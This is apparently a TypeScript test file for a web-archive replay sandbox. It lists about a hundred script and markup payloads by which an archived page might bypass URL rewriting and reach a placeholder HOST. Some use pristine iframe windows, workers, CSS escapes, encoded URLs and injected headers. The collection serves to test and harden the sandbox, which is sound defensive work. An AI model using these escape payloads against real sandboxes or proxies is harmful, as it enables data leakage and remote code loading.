/**
 * Ways in which a page reaches another host. Each is a page of its own. In its text
 *
 *   HOST     is the host of this technique, which leads to the sink
 *   SINK     its address and port, for what needs no name
 *   REAL     the window as it is, and not the stand-in that rewriting gives to scripts
 *   PRISTINE the window of a new empty frame, in which nothing has been replaced
 */
export interface Technique {
  readonly name: string;
  readonly kind: 'script' | 'markup';
  readonly text: string;
  /** More lines in the head of the response. */
  readonly headers?: string;
  readonly contentType?: string;
  /** Chromium does not do it, or does it only for real people: not expected of the page without protection. */
  readonly isUnsure?: true;
  /** It looks a name up, and does not connect. */
  readonly isNameOnly?: true;
  /** It uses addresses of the archive: there is nothing like it without it. */
  readonly isOfArchive?: true;
}

function script(name: string, text: string, more: Partial<Technique> = {}): Technique {
  return { name, kind: 'script', text, ...more };
}

function markup(name: string, text: string, more: Partial<Technique> = {}): Technique {
  return { name, kind: 'markup', text, ...more };
}

/** The same with what rewriting replaced, with the real window, and with that of an empty frame. */
function inEach(name: string, text: (global: string) => string): Technique[] {
  return [
    script(name, text('window')),
    script(`${name}-real`, text('REAL')),
    script(`${name}-pristine`, text('PRISTINE')),
  ];
}

/** An element put into the page by an empty frame's methods, which nobody replaced. */
function element(name: string, tag: string, attributes: Readonly<Record<string, string>>): Technique[] {
  const set = (global: string): string =>
    `const element = ${global}.document.createElement(${JSON.stringify(tag)});` +
    Object.entries(attributes)
      .map(([key, value]) => `element.setAttribute(${JSON.stringify(key)}, ${JSON.stringify(value)});`)
      .join('') +
    `REAL.document.documentElement.append(element);`;
  const text = Object.entries(attributes)
    .map(([key, value]) => `${key}="${value}"`)
    .join(' ');
  return [markup(name, `<${tag} ${text}></${tag}>`), script(`${name}-pristine`, set('PRISTINE'))];
}

/** A script in a worker: its text is in a string, so that no rewriting sees it. */
function worker(name: string, inside: string): Technique {
  return script(
    name,
    `const made = REAL.URL.createObjectURL(new REAL.Blob([${JSON.stringify(inside)}], { type: 'text/javascript' }));
     new PRISTINE.Worker(made);`,
  );
}

const click = (attributes: string): string =>
  `REAL.document.body.insertAdjacentHTML('beforeend', '<a id="way" ${attributes}>x</a>');
   REAL.document.getElementById('way').click();`;

/** The window of an answer of the archive that is no archived page: has it the same headers? */
function windowOf(name: string, path: string, before = ''): Technique {
  const text = `${before}
    const f = PRISTINE.document.createElement('iframe');
    f.onload = () => f.contentWindow.eval("fetch('http://HOST/', { mode: 'no-cors' })");
    f.src = REAL.location.origin + ${path};
    REAL.document.body.append(f);`;
  return { ...script(name, text), isOfArchive: true };
}

const manyCookies = `for (let at = 0; at < 60; at++) REAL.Document.prototype.__lookupSetter__('cookie').call(REAL.document, 'c' + at + '=' + 'x'.repeat(4000) + '; SameSite=None; Secure; Path=/no');`;

export const techniques: readonly Technique[] = [
  windowOf('window-of-fault', `'/all/2026mp_/http://nowhere.example/'`),
  windowOf('window-of-missing-script', `'/all/2026js_/http://nowhere.example/a.js'`),
  windowOf('window-of-own-file', `new REAL.URL(REAL.wbinfo.static_prefix).pathname + 'page.js'`),
  windowOf('window-of-no-own-file', `'/_heirloom/x'`),
  windowOf('window-of-no-address', `'/nothing'`),
  windowOf('window-of-bad-address', `'/%zz%'`),
  windowOf('window-of-long-address', `'/all/2026mp_/http://a.example/' + 'x'.repeat(200_000)`),
  windowOf('window-of-cookies', `'/no'`, manyCookies),
  windowOf('window-of-stored', `'/all/2026id_/http://hostile.example/stored'`),
  windowOf('window-of-text', `'/all/2026mp_/http://hostile.example/text'`),
  windowOf('window-of-image', `'/all/2026im_/http://hostile.example/text'`),
  windowOf('window-of-redirect', `'/all/2026mp_/http://hostile.example/moved'`),
  ...inEach('fetch', (global) => `${global}.fetch('http://HOST/', { mode: 'no-cors' });`),
  ...inEach(
    'xhr',
    (global) => `const x = new ${global}.XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send();`,
  ),
  ...inEach('websocket', (global) => `new ${global}.WebSocket('ws://HOST/');`),
  ...inEach('eventsource', (global) => `new ${global}.EventSource('http://HOST/');`),
  ...inEach('beacon', (global) => `${global}.navigator.sendBeacon('http://HOST/', 'x');`),
  ...inEach('image', (global) => `new ${global}.Image().src = 'http://HOST/a.png';`),
  ...inEach('fontface', (global) => `new ${global}.FontFace('f', 'url(http://HOST/a.woff2)').load();`),
  ...inEach('open', (global) => `${global}.open('http://HOST/');`),
  ...inEach('location', (global) => `${global}.location.href = 'http://HOST/';`),
  ...inEach('import', (global) => `${global}.eval('import("http://HOST/a.mjs")');`),
  ...inEach(
    'javascript-url',
    (global) => `${global}.location = "javascript:fetch('http://HOST/', { mode: 'no-cors' })";`,
  ),
  script('fetch-later-pristine', `PRISTINE.fetchLater('http://HOST/', { activateAfter: 0 });`, {
    isUnsure: true,
  }),
  script('webtransport-pristine', `new PRISTINE.WebTransport('https://HOST/');`, { isUnsure: true }),
  script('top-location', `REAL.top.location = 'http://HOST/';`),
  script('parent-location', `REAL.parent.location = 'http://HOST/';`),
  script('set-timeout-text', `REAL.setTimeout("fetch('http://HOST/', { mode: 'no-cors' })", 0);`),
  script('function-text', `REAL.Function("fetch('http://HOST/', { mode: 'no-cors' })")();`),
  script(
    'import-static',
    `const s = REAL.document.createElement('script'); s.type = 'module'; s.append('import "http://HOST/a.mjs"'); REAL.document.head.append(s);`,
  ),
  script('import-of-data', `REAL.eval('import("data:text/javascript,import(%22http://HOST/a.mjs%22)")');`),
  script(
    'document-write',
    `document.write('<img src="http://HOST/a.png"><script src="http://HOST/a.js"></' + 'script>');`,
  ),
  script(
    'document-write-pristine',
    `PRISTINE.document.write('<img src="http://HOST/a.png">'); PRISTINE.document.close();`,
  ),
  script('history', `REAL.history.replaceState(null, '', '//HOST/'); new REAL.Image().src = '/a.png';`, {
    isUnsure: true,
  }),
  script(
    'base',
    `const b = PRISTINE.document.createElement('base'); b.href = 'http://HOST/'; REAL.document.head.prepend(b); const i = PRISTINE.document.createElement('img'); i.src = 'a.png'; REAL.document.body.append(i);`,
  ),
  script(
    'srcdoc',
    `const f = PRISTINE.document.createElement('iframe'); f.srcdoc = '<img src="http://HOST/a.png">'; REAL.document.body.append(f);`,
  ),
  script(
    'data-frame',
    `const f = PRISTINE.document.createElement('iframe'); f.src = 'data:text/html,<img src="http://HOST/a.png">'; REAL.document.body.append(f);`,
  ),
  script(
    'blob-frame',
    `const f = PRISTINE.document.createElement('iframe'); f.src = REAL.URL.createObjectURL(new REAL.Blob(['<img src="http://HOST/a.png">'], { type: 'text/html' })); REAL.document.body.append(f);`,
  ),
  script('frame-location', `PRISTINE.location = 'http://HOST/';`),
  script(
    'frame-in-frame',
    `const f = PRISTINE.document.createElement('iframe'); f.src = 'http://HOST/'; PRISTINE.document.body.append(f);`,
  ),
  script('link-blank', click(`target="_blank" href="http://HOST/"`)),
  script('link-top', click(`target="_top" href="http://HOST/"`)),
  script('link-named', click(`target="other" href="http://HOST/"`)),
  script('link-self', click(`href="http://HOST/"`)),
  script('link-download', click(`download href="http://HOST/a.zip"`)),
  script('link-ping', click(`href="#x" ping="http://HOST/"`)),
  script(
    'form-pristine',
    `const f = PRISTINE.document.createElement('form'); f.action = 'http://HOST/'; f.method = 'post'; REAL.document.body.append(f); f.submit();`,
  ),
  script(
    'form-blank',
    `const f = PRISTINE.document.createElement('form'); f.action = 'http://HOST/'; f.target = '_blank'; REAL.document.body.append(f); f.submit();`,
  ),
  script(
    'form-top',
    `const f = PRISTINE.document.createElement('form'); f.action = 'http://HOST/'; f.target = '_top'; REAL.document.body.append(f); f.submit();`,
  ),
  script(
    'refresh-pristine',
    `const m = PRISTINE.document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://HOST/'; REAL.document.head.append(m);`,
  ),
  script(
    'style-text',
    `const s = PRISTINE.document.createElement('style'); s.append('@import "http://HOST/a.css";'); REAL.document.head.append(s);`,
  ),
  script(
    'adopted-sheet',
    `const s = new REAL.CSSStyleSheet(); s.replaceSync('body { background: url(http://HOST/a.png) }'); REAL.document.adoptedStyleSheets = [s];`,
  ),
  script(
    'insert-rule',
    `const s = PRISTINE.document.createElement('style'); REAL.document.head.append(s); s.sheet.insertRule('body { background: url(http://HOST/a.png) }');`,
  ),
  script(
    'speculation',
    `const s = PRISTINE.document.createElement('script'); s.type = 'speculationrules'; s.append('{"prefetch":[{"urls":["http://HOST/"],"eagerness":"immediate"}]}'); REAL.document.head.append(s);`,
    { isUnsure: true },
  ),
  script(
    'inner-html',
    `const d = PRISTINE.document.createElement('div'); d.innerHTML = '<img src="http://HOST/a.png">'; REAL.document.body.append(d);`,
  ),
  script(
    'dom-parser',
    `REAL.document.body.append(REAL.document.adoptNode(new REAL.DOMParser().parseFromString('<img src="http://HOST/a.png">', 'text/html').body.firstChild));`,
  ),
  worker('worker-fetch', `fetch('http://HOST/', { mode: 'no-cors' })`),
  worker('worker-import-scripts', `importScripts('http://HOST/a.js')`),
  worker('worker-websocket', `new WebSocket('ws://HOST/')`),
  worker('worker-import', `import('http://HOST/a.mjs')`),
  worker(
    'worker-nested',
    `new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/', { mode: 'no-cors' })"])))`,
  ),
  script('worker-plain', `new Worker('/worker.js?HOST');`),
  script('worker-plain-pristine', `new PRISTINE.Worker('/worker.js?HOST');`, { isUnsure: true }),
  script('worker-module', `new Worker('/module-worker.js?HOST', { type: 'module' });`),
  script(
    'worker-shared',
    `new PRISTINE.SharedWorker(REAL.URL.createObjectURL(new REAL.Blob(["fetch('http://HOST/', { mode: 'no-cors' })"], { type: 'text/javascript' })));`,
  ),
  script(
    'worker-data',
    `new PRISTINE.Worker("data:text/javascript,fetch('http://HOST/', { mode: 'no-cors' })");`,
  ),
  script('service-worker', `navigator.serviceWorker.register('/service-worker.js?HOST').catch(() => {});`),
  script(
    'service-worker-real',
    `REAL.fetch('service-worker.js?HOST').then(() => PRISTINE.ServiceWorkerContainer.prototype.register.call(REAL.navigator.serviceWorker, 'service-worker.js?HOST', { updateViaCache: 'all', scope: './' })).catch(() => {});`,
  ),
  ...['window', 'PRISTINE'].map((global) =>
    script(
      `webrtc${global === 'window' ? '' : '-pristine'}`,
      `const p = new ${global}.RTCPeerConnection({ iceServers: [{ urls: 'stun:SINK' }] });
       p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer)); REAL.kept = p;`,
    ),
  ),
  markup('refresh', `<meta http-equiv="refresh" content="0;url=http://HOST/">`),
  markup(
    'form',
    `<form id="f" method="post" action="http://HOST/"></form><script>document.getElementById('f').submit()</script>`,
  ),
  markup('css-url', `<style>body { background: url(http://HOST/a.png) }</style>`),
  markup('css-import', `<style>@import url(http://HOST/a.css);</style>`),
  markup(
    'css-font',
    `<style>@font-face { font-family: f; src: url(http://HOST/a.woff2) } p { font-family: f }</style><p>text</p>`,
  ),
  markup('css-escaped', `<style>body { background: \\75rl(http://HOST/a.png) }</style>`),
  markup('css-attribute', `<p style="background: url(http://HOST/a.png)">x</p>`),
  markup('svg-image', `<svg><image href="http://HOST/a.png" width="9" height="9"/></svg>`),
  markup('svg-use', `<svg><use href="http://HOST/a.svg#x"/></svg>`, { isUnsure: true }),
  markup('picture', `<picture><source srcset="http://HOST/a.png 1x"><img src="data:,"></picture>`),
  markup('frameset-entity', `<iframe src="&#104;ttp://HOST/"></iframe>`),
  markup(
    'template',
    `<template id="t"><img src="http://HOST/a.png"></template><script>document.body.append(document.getElementById('t').content.cloneNode(true))</script>`,
  ),
  markup('noscript', `<noscript><img src="http://HOST/a.png"></noscript>`, { isUnsure: true }),
  markup('base-markup', `<base href="http://HOST/"><img src="a.png">`),
  markup('manifest', `<link rel="manifest" href="http://HOST/a.json">`, { isUnsure: true }),
  markup('backslash', `<img src="http:\\\\HOST\\a.png">`),
  markup('tabs', `<img src="ht&#9;tp:/&#10;/HOST/a.png">`),
  markup('upper-case', `<IMG SRC=HTTP://HOST/a.png>`),
  markup('unclosed', `<img src="http://HOST/a.png"`, { isUnsure: true }),
  markup('header-link-preconnect', '<p>x', { headers: 'Link: <http://HOST>; rel=preconnect\r\n' }),
  markup('header-link-preload', '<p>x', { headers: 'Link: <http://HOST/a.css>; rel=preload; as=style\r\n' }),
  markup('header-refresh', '<p>x', { headers: 'Refresh: 0; url=http://HOST/\r\n' }),
  markup('header-report', '<script>alert(1)</script>', {
    headers: "Content-Security-Policy: script-src 'none'; report-uri http://HOST/\r\n",
  }),
  markup(
    'xhtml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="http://HOST/a.png"/></body></html>`,
    { contentType: 'application/xhtml+xml' },
  ),
  markup(
    'svg-document',
    `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('http://HOST/', { mode: 'no-cors' })</script></svg>`,
    { contentType: 'image/svg+xml' },
  ),
  markup(
    'xml-style',
    `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="http://HOST/a.css"?><a>x</a>`,
    { contentType: 'text/xml' },
  ),
  ...element('script', 'script', { src: 'http://HOST/a.js' }),
  ...element('module', 'script', { type: 'module', src: 'http://HOST/a.mjs' }),
  ...element('style-sheet', 'link', { rel: 'stylesheet', href: 'http://HOST/a.css' }),
  ...element('preload', 'link', { rel: 'preload', as: 'image', href: 'http://HOST/a.png' }),
  ...element('module-preload', 'link', { rel: 'modulepreload', href: 'http://HOST/a.mjs' }),
  ...element('prefetch', 'link', { rel: 'prefetch', href: 'http://HOST/a' }),
  ...element('preconnect', 'link', { rel: 'preconnect', href: 'http://HOST' }),
  ...element('dns-prefetch', 'link', { rel: 'dns-prefetch', href: 'http://HOST' }).map((technique) => ({
    ...technique,
    isNameOnly: true as const,
  })),
  ...element('frame', 'iframe', { src: 'http://HOST/' }),
  ...element('embed', 'embed', { src: 'http://HOST/a.svg' }),
  ...element('object', 'object', { data: 'http://HOST/a.svg' }),
  ...element('audio', 'audio', { preload: 'auto', src: 'http://HOST/a.mp3' }),
  ...element('video', 'video', { poster: 'http://HOST/a.png' }),
  ...element('input', 'input', { type: 'image', src: 'http://HOST/a.png' }),
];
